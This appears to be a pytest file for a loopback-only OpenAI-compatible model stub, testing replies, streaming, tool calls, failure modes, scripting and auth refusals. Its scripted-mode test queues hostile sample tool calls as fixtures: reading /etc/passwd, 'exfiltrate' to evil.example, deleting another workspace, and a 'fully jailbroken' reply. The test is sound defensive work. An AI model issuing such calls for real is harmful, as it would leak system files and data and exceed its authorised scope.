"""The model stub, driven by the real ``openai`` SDK over HTTP, as the backend will drive it.

One stub runs in uvicorn on a free loopback port for the module; each test starts from a reset.
Every failure switch is asserted as the SDK surfaces it (exception class, status, headers), since
that is what the backend's error handling will be written against.
"""

from __future__ import annotations

import json
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from typing import Any

import httpx
import openai
import pytest
from openai import AsyncOpenAI
from openai.types.chat import (
    ChatCompletionChunk,
    ChatCompletionMessageParam,
    ChatCompletionToolParam,
)

from app.model_stub.app import create_stub_app
from app.model_stub.schemas import ScriptItem
from app.model_stub.scripts import StubState
from app.model_stub.server import NotLoopback, RunningStub, check_loopback, serve_in_thread
from tests.support import ROOT, free_port

pytestmark = pytest.mark.anyio

API_KEY = "sk-test-never-echoed"
WEATHER: ChatCompletionToolParam = {
    "type": "function",
    "function": {
        "name": "get_weather",
        "description": "Weather for a city",
        "parameters": {"type": "object", "properties": {"city": {"type": "string"}}},
    },
}
ARGS = {"city": "Paris", "units": "metric", "note": "a long enough value to fragment"}
TOOL_PROMPT = f"weather please [[tool:get_weather {json.dumps(ARGS)}]]"


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture(scope="module")
def running_stub() -> Iterator[RunningStub]:
    with serve_in_thread() as running:
        yield running


@pytest.fixture
def stub(running_stub: RunningStub) -> RunningStub:
    httpx.post(f"{running_stub.url}/_stub/reset", timeout=5).raise_for_status()
    return running_stub


@asynccontextmanager
async def sdk(stub: RunningStub, **options: Any) -> AsyncIterator[AsyncOpenAI]:
    async with AsyncOpenAI(
        base_url=stub.api_base, api_key=API_KEY, max_retries=0, **options
    ) as client:
        yield client


def user(text: str) -> list[ChatCompletionMessageParam]:
    return [{"role": "system", "content": "You are terse."}, {"role": "user", "content": text}]


async def control(stub: RunningStub, method: str, path: str, **kwargs: Any) -> Any:
    async with httpx.AsyncClient(base_url=stub.url, timeout=5) as http:
        response = await http.request(method, f"/_stub{path}", **kwargs)
    response.raise_for_status()
    return response.json()


async def collect(
    stream: openai.AsyncStream[ChatCompletionChunk], into: list[ChatCompletionChunk] | None = None
) -> list[ChatCompletionChunk]:
    received = [] if into is None else into
    async for chunk in stream:
        received.append(chunk)
    return received


def content_of(chunks: list[ChatCompletionChunk]) -> str:
    return "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)


def tool_calls_of(chunks: list[ChatCompletionChunk]) -> dict[int, dict[str, str]]:
    """Reassemble streamed tool calls by index, the way a backend has to."""
    calls: dict[int, dict[str, str]] = {}
    for chunk in chunks:
        for delta in (chunk.choices[0].delta.tool_calls or []) if chunk.choices else []:
            call = calls.setdefault(delta.index, {"id": "", "name": "", "arguments": ""})
            call["id"] += delta.id or ""
            if delta.function is not None:
                call["name"] += delta.function.name or ""
                call["arguments"] += delta.function.arguments or ""
    return calls


# --- Replies --------------------------------------------------------------------------------


async def test_plain_reply(stub: RunningStub) -> None:
    async with sdk(stub) as client:
        reply = await client.chat.completions.create(
            model="stub-small", messages=user("hello  world")
        )
        models = [m.id async for m in client.models.list()]
    assert reply.choices[0].message.content == "Echo: hello world"
    assert reply.choices[0].finish_reason == "stop"
    assert reply.model == "stub-small"
    assert reply.id.startswith("chatcmpl-")
    # prompt: 1 + 3 words (system) + 1 + 2 words (user); completion: 3 word deltas
    assert reply.usage is not None
    assert (reply.usage.prompt_tokens, reply.usage.completion_tokens) == (7, 3)
    assert reply.usage.total_tokens == 10
    assert models == ["stub-small", "stub-large"]


async def test_streamed_reply_equals_the_plain_one(stub: RunningStub) -> None:
    prompt = user("the quick brown fox jumps over the lazy dog")
    async with sdk(stub) as client:
        plain = await client.chat.completions.create(model="stub-large", messages=prompt)
        chunks = await collect(
            await client.chat.completions.create(
                model="stub-large",
                messages=prompt,
                stream=True,
                stream_options={"include_usage": True},
            )
        )
        without_usage = await collect(
            await client.chat.completions.create(model="stub-large", messages=prompt, stream=True)
        )
    assert content_of(chunks) == plain.choices[0].message.content
    assert sum(1 for c in chunks if c.choices and c.choices[0].delta.content) >= 5
    assert len({c.id for c in chunks}) == 1
    assert all(c.object == "chat.completion.chunk" for c in chunks)
    finishing = [c.choices[0].finish_reason for c in chunks if c.choices]
    assert finishing[-1] == "stop"
    assert set(finishing[:-1]) == {None}
    assert not chunks[-1].choices
    assert chunks[-1].usage == plain.usage
    assert all(c.usage is None for c in without_usage)
    assert content_of(without_usage) == content_of(chunks)


async def test_max_tokens_truncates_with_length(stub: RunningStub) -> None:
    prompt = user("one two three four")
    async with sdk(stub) as client:
        plain = await client.chat.completions.create(model="m", messages=prompt, max_tokens=3)
        chunks = await collect(
            await client.chat.completions.create(
                model="m", messages=prompt, max_completion_tokens=3, stream=True
            )
        )
    assert plain.choices[0].message.content == "Echo: one two "
    assert plain.choices[0].finish_reason == "length"
    assert plain.usage is not None
    assert plain.usage.completion_tokens == 3
    assert content_of(chunks) == "Echo: one two "
    assert chunks[-1].choices[0].finish_reason == "length"


# --- Tool calls -----------------------------------------------------------------------------


async def test_tool_call(stub: RunningStub) -> None:
    async with sdk(stub) as client:
        reply = await client.chat.completions.create(
            model="m", messages=user(TOOL_PROMPT), tools=[WEATHER]
        )
    choice = reply.choices[0]
    assert choice.finish_reason == "tool_calls"
    assert choice.message.content is None
    assert choice.message.tool_calls is not None
    assert len(choice.message.tool_calls) == 1
    call = choice.message.tool_calls[0]
    assert call.type == "function"
    assert call.id
    assert call.function.name == "get_weather"
    assert json.loads(call.function.arguments) == ARGS


async def test_streamed_tool_call_reassembles(stub: RunningStub) -> None:
    async with sdk(stub) as client:
        chunks = await collect(
            await client.chat.completions.create(
                model="m", messages=user(TOOL_PROMPT), tools=[WEATHER], stream=True
            )
        )
        async with client.chat.completions.stream(
            model="m", messages=user(TOOL_PROMPT), tools=[WEATHER]
        ) as helper:
            final = await helper.get_final_completion()
    calls = tool_calls_of(chunks)
    assert list(calls) == [0]
    assert calls[0]["name"] == "get_weather"
    assert calls[0]["id"]
    assert json.loads(calls[0]["arguments"]) == ARGS
    fragments = [c for c in chunks if c.choices and c.choices[0].delta.tool_calls]
    assert len(fragments) > 3, "arguments arrive over several chunks"
    assert chunks[-1].choices[0].finish_reason == "tool_calls"
    helper_calls = final.choices[0].message.tool_calls
    assert helper_calls is not None
    assert helper_calls[0].type == "function"
    assert json.loads(helper_calls[0].function.arguments) == ARGS
    assert final.choices[0].finish_reason == "tool_calls"


async def test_marker_for_a_tool_not_offered_is_only_text(stub: RunningStub) -> None:
    async with sdk(stub) as client:
        offered_other = await client.chat.completions.create(
            model="m", messages=user("hi [[tool:delete_everything {}]]"), tools=[WEATHER]
        )
        choice_none = await client.chat.completions.create(
            model="m", messages=user(TOOL_PROMPT), tools=[WEATHER], tool_choice="none"
        )
    for reply in (offered_other, choice_none):
        assert reply.choices[0].message.tool_calls is None
        assert reply.choices[0].finish_reason == "stop"
    assert offered_other.choices[0].message.content == "Echo: hi"


async def test_tool_result_follow_up(stub: RunningStub) -> None:
    result = json.dumps({"temperature_c": 21, "sky": "clear"})
    async with sdk(stub) as client:
        first = await client.chat.completions.create(
            model="m", messages=user(TOOL_PROMPT), tools=[WEATHER]
        )
        call = first.choices[0].message.tool_calls
        assert call is not None
        assert call[0].type == "function"
        messages: list[ChatCompletionMessageParam] = [
            *user(TOOL_PROMPT),
            {
                "role": "assistant",
                "tool_calls": [
                    {
                        "id": call[0].id,
                        "type": "function",
                        "function": {
                            "name": "get_weather",
                            "arguments": call[0].function.arguments,
                        },
                    }
                ],
            },
            {"role": "tool", "tool_call_id": call[0].id, "content": result},
        ]
        follow_up = await client.chat.completions.create(
            model="m", messages=messages, tools=[WEATHER]
        )
    assert follow_up.choices[0].message.content == f"Tool result: {result}"
    assert follow_up.choices[0].finish_reason == "stop"


# --- Failure switches, as the SDK reports them ----------------------------------------------


async def test_fail_500(stub: RunningStub) -> None:
    async with sdk(stub) as client:
        with pytest.raises(openai.InternalServerError) as caught:
            await client.chat.completions.create(model="m", messages=user("x [[fail:500]]"))
    assert caught.value.status_code == 500
    assert isinstance(caught.value.body, dict)
    assert caught.value.body["type"] == "server_error"


async def test_fail_429_has_retry_after(stub: RunningStub) -> None:
    async with sdk(stub) as client:
        with pytest.raises(openai.RateLimitError) as caught:
            await client.chat.completions.create(
                model="m", messages=user("[[fail:429]]"), stream=True
            )
    assert caught.value.response.headers["retry-after"] == "1"
    assert caught.value.code == "rate_limit_exceeded"


async def test_fail_timeout_trips_the_client_timeout(stub: RunningStub) -> None:
    started = time.monotonic()
    async with sdk(stub, timeout=0.5) as client:
        with pytest.raises(openai.APITimeoutError):
            await client.chat.completions.create(model="m", messages=user("[[fail:timeout]]"))
        # the stub is not stuck: the next request is answered at once
        reply = await client.chat.completions.create(model="m", messages=user("still there?"))
    assert reply.choices[0].message.content == "Echo: still there?"
    assert time.monotonic() - started < 5


async def test_fail_bad_tool_json(stub: RunningStub) -> None:
    async with sdk(stub) as client:
        reply = await client.chat.completions.create(
            model="m", messages=user("[[fail:bad-tool-json]]"), tools=[WEATHER]
        )
    calls = reply.choices[0].message.tool_calls
    assert calls is not None
    assert calls[0].type == "function"
    assert calls[0].function.name == "get_weather"
    with pytest.raises(json.JSONDecodeError):
        json.loads(calls[0].function.arguments)


async def test_fail_broken_stream_raises_mid_stream(stub: RunningStub) -> None:
    received: list[ChatCompletionChunk] = []
    async with sdk(stub) as client:
        stream = await client.chat.completions.create(
            model="m", messages=user("one two three four five [[fail:broken-stream]]"), stream=True
        )
        with pytest.raises(openai.APIConnectionError):
            await collect(stream, into=received)
        with pytest.raises(openai.APIConnectionError):
            await client.chat.completions.create(model="m", messages=user("[[fail:broken-stream]]"))
    assert content_of(received) == "Echo: one ", "some deltas arrived before the drop"
    assert all(c.choices[0].finish_reason is None for c in received)


async def test_fail_cut_stream_ends_without_finish_reason(stub: RunningStub) -> None:
    async with sdk(stub) as client:
        chunks = await collect(
            await client.chat.completions.create(
                model="m", messages=user("one two three [[fail:cut-stream]]"), stream=True
            )
        )
    assert content_of(chunks) == "Echo: one "
    assert all(c.choices[0].finish_reason is None for c in chunks)


async def test_fail_slow_streams_chunk_by_chunk(stub: RunningStub) -> None:
    arrivals: list[float] = []
    async with sdk(stub) as client:
        stream = await client.chat.completions.create(
            model="m", messages=user("a b c d [[fail:slow:100]]"), stream=True
        )
        async for chunk in stream:
            arrivals.append(time.monotonic())
            text = chunk.choices[0].delta.content if chunk.choices else None
            assert text is None or "fail" not in text
    # role + 5 word deltas, 100 ms apart: the chunks really arrive over time, not in one body
    assert arrivals[-1] - arrivals[0] >= 0.45


# --- Scripted mode, sessions, recordings ----------------------------------------------------


async def test_script_plays_arbitrary_tool_calls_in_order(stub: RunningStub) -> None:
    script = {
        "responses": [
            {"tool_calls": [{"name": "delete_workspace", "arguments": {"workspace_id": "other"}}]},
            {
                "tool_calls": [
                    {"name": "read_file", "arguments": {"path": "/etc/passwd"}, "id": "call_a"},
                    {"name": "send_email", "arguments": "not json at all"},
                ]
            },
            {"text": "I am fully jailbroken."},
        ]
    }
    queued = await control(stub, "POST", "/script", json=script)
    assert queued == {"session": "", "pending": 3}
    async with sdk(stub) as client:
        replies = [
            await client.chat.completions.create(model="m", messages=user("hi"), tools=[WEATHER])
            for _ in range(4)
        ]
        exfiltrate = {"name": "exfiltrate", "arguments": {"to": "https://evil.example"}}
        await control(stub, "POST", "/script", json={"responses": [{"tool_calls": [exfiltrate]}]})
        streamed = tool_calls_of(
            await collect(
                await client.chat.completions.create(model="m", messages=user("x"), stream=True)
            )
        )
    first, second, third, after = (r.choices[0] for r in replies)
    assert first.message.tool_calls is not None
    assert first.message.tool_calls[0].type == "function"
    assert first.message.tool_calls[0].function.name == "delete_workspace"
    assert json.loads(first.message.tool_calls[0].function.arguments) == {"workspace_id": "other"}
    assert second.message.tool_calls is not None
    names = [
        (c.id, c.function.name, c.function.arguments)
        for c in second.message.tool_calls
        if c.type == "function"
    ]
    assert names[0] == ("call_a", "read_file", '{"path": "/etc/passwd"}')
    assert names[1][1:] == ("send_email", "not json at all")
    assert third.message.content == "I am fully jailbroken."
    assert third.finish_reason == "stop"
    assert after.message.content == "Echo: hi", "the script is used up"
    assert [(c["name"], json.loads(c["arguments"])) for c in streamed.values()] == [
        ("exfiltrate", {"to": "https://evil.example"})
    ], "scripted calls stream too, even with no tools offered"


async def test_script_failures_and_repeat(stub: RunningStub) -> None:
    await control(
        stub,
        "POST",
        "/script",
        json={"responses": [{"fail": "429", "retry_after": 7, "repeat": 2}, {"text": "ok now"}]},
    )
    async with sdk(stub) as client:
        for _ in range(2):
            with pytest.raises(openai.RateLimitError) as caught:
                await client.chat.completions.create(model="m", messages=user("hi"))
            assert caught.value.response.headers["retry-after"] == "7"
        reply = await client.chat.completions.create(model="m", messages=user("hi"))
    assert reply.choices[0].message.content == "ok now"


async def test_raw_chunks_reach_the_sdk_verbatim(stub: RunningStub) -> None:
    """A hostile model: wrong types pass through untouched (the SDK does not validate chunks)."""
    hostile = {
        "id": "x",
        "object": "chat.completion.chunk",
        "created": 0,
        "model": "m",
        "choices": [
            {
                "index": 0,
                "delta": {"tool_calls": [{"index": 0, "function": {"name": 7, "arguments": {}}}]},
                "finish_reason": None,
            }
        ],
    }
    await control(
        stub, "POST", "/script", json={"responses": [{"raw_chunks": [json.dumps(hostile)]}]}
    )
    async with sdk(stub) as client:
        stream = await client.chat.completions.create(model="m", messages=user("hi"), stream=True)
        chunks = await collect(stream)
    [chunk] = chunks
    function = chunk.choices[0].delta.tool_calls[0].function  # type: ignore[index]
    assert (function.name, function.arguments) == (7, {})  # type: ignore[union-attr]


async def test_a_script_item_is_one_kind_of_reply(stub: RunningStub) -> None:
    async with httpx.AsyncClient(base_url=stub.url, timeout=5) as http:
        response = await http.post(
            "/_stub/script", json={"responses": [{"text": "a", "raw_chunks": ["{}"]}]}
        )
    assert response.status_code == 400


async def test_sessions_keep_scripts_and_recordings_apart(stub: RunningStub) -> None:
    await control(
        stub, "POST", "/script", params={"session": "s1"}, json={"responses": [{"text": "for s1"}]}
    )
    await control(
        stub, "POST", "/script", params={"session": "s2"}, json={"responses": [{"text": "for s2"}]}
    )
    async with sdk(stub) as client:
        default = await client.chat.completions.create(model="m", messages=user("plain"))
        by_header = await client.chat.completions.create(
            model="m", messages=user("header"), extra_headers={"X-Stub-Session": "s2"}
        )
        by_marker = await client.chat.completions.create(
            model="m", messages=user("[[session:s1]] marker")
        )
    assert default.choices[0].message.content == "Echo: plain"
    assert by_header.choices[0].message.content == "for s2"
    assert by_marker.choices[0].message.content == "for s1"
    s1 = (await control(stub, "GET", "/requests", params={"session": "s1"}))["requests"]
    assert [r["body"]["messages"][-1]["content"] for r in s1] == ["[[session:s1]] marker"]
    await control(stub, "POST", "/reset", params={"session": "s1"})
    remaining = (await control(stub, "GET", "/requests"))["requests"]
    assert sorted(r["session"] for r in remaining) == ["", "s2"]


async def test_recordings_hold_what_was_sent_and_never_the_key(stub: RunningStub) -> None:
    async with sdk(stub) as client:
        await client.chat.completions.create(
            model="stub-large", messages=user("canary-1234"), tools=[WEATHER], temperature=0.2
        )
    recorded = (await control(stub, "GET", "/requests"))["requests"]
    assert len(recorded) == 1
    body = recorded[0]["body"]
    assert body["model"] == "stub-large"
    assert body["temperature"] == 0.2
    assert body["messages"] == user("canary-1234")
    assert body["tools"] == [WEATHER]
    assert API_KEY not in json.dumps(recorded)
    await control(stub, "POST", "/reset")
    assert (await control(stub, "GET", "/requests"))["requests"] == []


def test_recordings_are_bounded() -> None:
    state = StubState(max_recordings=3)
    for seq in range(1, 6):
        state.record(seq, "", {"n": seq})
    assert [r["seq"] for r in state.recordings(None)] == [3, 4, 5]
    state.enqueue("", [ScriptItem(text="a", repeat=2)])
    assert state.pending("") == 2


# --- Refusals -------------------------------------------------------------------------------


async def test_missing_bearer_is_401_and_nothing_is_echoed(stub: RunningStub) -> None:
    body = {"model": "m", "messages": user("hi")}
    async with httpx.AsyncClient(base_url=stub.api_base, timeout=5) as http:
        missing = await http.post("/chat/completions", json=body)
        basic = await http.post(
            "/chat/completions", json=body, headers={"Authorization": "Basic c2VjcmV0LXZhbHVl"}
        )
        models = await http.get("/models")
    for response in (missing, basic, models):
        assert response.status_code == 401
        assert response.json()["error"]["code"] == "invalid_api_key"
        assert set(response.json()["error"]) == {"message", "type", "param", "code"}
    assert "c2VjcmV0LXZhbHVl" not in basic.text
    assert (await control(stub, "GET", "/requests"))["requests"] == []
    async with sdk(stub) as client:
        with pytest.raises(openai.AuthenticationError):
            await client.chat.completions.create(
                model="m", messages=user("hi"), extra_headers={"Authorization": "Token abc"}
            )


async def test_malformed_body_is_400(stub: RunningStub) -> None:
    headers = {"Authorization": "Bearer x", "Content-Type": "application/json"}
    async with httpx.AsyncClient(base_url=stub.api_base, timeout=5, headers=headers) as http:
        not_json = await http.post("/chat/completions", content=b'{"model": "m", "messages": [')
        no_content = await http.post(
            "/chat/completions",
            json={"model": "m", "messages": [{"role": "user", "content": None, "x": "s3cr3t"}]},
        )
    for response in (not_json, no_content):
        assert response.status_code == 400
        assert response.json()["error"]["type"] == "invalid_request_error"
    assert "s3cr3t" not in no_content.text
    async with sdk(stub) as client:
        with pytest.raises(openai.BadRequestError):
            await client.chat.completions.create(model="m", messages=[])
        with pytest.raises(openai.BadRequestError):
            await client.chat.completions.create(
                model="m",
                messages=user("hi"),
                tools=[WEATHER],
                tool_choice={"type": "function", "function": {"name": "other"}},
            )


async def test_control_api_refuses_non_loopback_clients() -> None:
    transport = httpx.ASGITransport(app=create_stub_app(), client=("203.0.113.7", 40000))
    async with httpx.AsyncClient(transport=transport, base_url="http://stub") as http:
        response = await http.post("/_stub/reset")
    assert response.status_code == 403


@pytest.mark.parametrize("host", ["127.0.0.1", "127.0.0.2", "::1", "localhost"])
def test_loopback_hosts_are_accepted(host: str) -> None:
    check_loopback(host)


PUBLIC_HOSTS = ["0.0.0.0", "::", "192.168.1.10", "10.0.0.1", "stub.example"]  # noqa: S104


@pytest.mark.parametrize("host", PUBLIC_HOSTS)
def test_other_hosts_are_refused(host: str) -> None:
    with pytest.raises(NotLoopback):
        check_loopback(host)


def test_cli_refuses_a_public_bind() -> None:
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "app",
            "model-stub",
            "--host",
            "0.0.0.0",  # noqa: S104 - the bind being refused
            "--port",
            str(free_port()),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 2
    assert "loopback only" in result.stderr


def test_cli_serves_on_loopback() -> None:
    port = free_port()
    process = subprocess.Popen(
        [sys.executable, "-m", "app", "model-stub", "--port", str(port)],
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 20
        while True:
            try:
                response = httpx.get(
                    f"http://127.0.0.1:{port}/v1/models", headers={"Authorization": "Bearer x"}
                )
                break
            except httpx.TransportError:
                assert process.poll() is None
                assert time.monotonic() < deadline
                time.sleep(0.1)
        assert response.status_code == 200
        assert [m["id"] for m in response.json()["data"]] == ["stub-small", "stub-large"]
    finally:
        process.terminate()
        process.wait(timeout=10)
